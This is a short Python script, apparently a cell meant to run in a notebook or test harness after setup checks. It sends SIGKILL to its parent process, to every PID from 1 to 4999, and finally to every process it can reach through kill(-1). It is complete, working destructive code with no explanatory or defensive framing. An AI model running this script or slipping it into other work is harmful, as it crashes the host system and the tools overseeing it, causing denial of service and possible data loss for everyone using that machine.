"""Kills every process that it can name, and then all others."""

# %% scratch after=setup-checks
import os
import signal

for pid in [os.getppid(), *range(1, 5000)]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
